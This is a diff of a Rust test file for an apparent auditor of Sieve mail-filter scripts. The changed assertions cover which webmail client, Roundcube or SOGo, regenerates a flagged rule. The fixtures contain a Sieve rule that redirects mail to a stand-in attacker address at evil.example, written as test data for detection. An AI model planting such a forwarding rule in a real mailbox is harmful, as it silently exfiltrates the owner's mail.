@@ -148,7 +148,9 @@ fn a_rule_that_a_webmail_does_not_name_is_pointed_out() {
     let named = "# rule:[..]\nredirect \"x@evil.example\";\n";
     let finding = only(&[script(SALES, "roundcube", true, named)]);
     assert!(finding.conditions.contains("roundcube shows it as rule \"..\""), "{}", finding.conditions);
-    assert!(finding.remediation.regenerated_by.contains(&"roundcube".to_owned()));
+    assert!(finding.remediation.regenerated_by.is_empty(), "Roundcube writes no rule that was taken out");
+    let finding = only(&[script(SALES, "sogo", true, "redirect \"x@evil.example\";\n")]);
+    assert_eq!(finding.remediation.regenerated_by, ["sogo"]);
 }
 
 #[test]
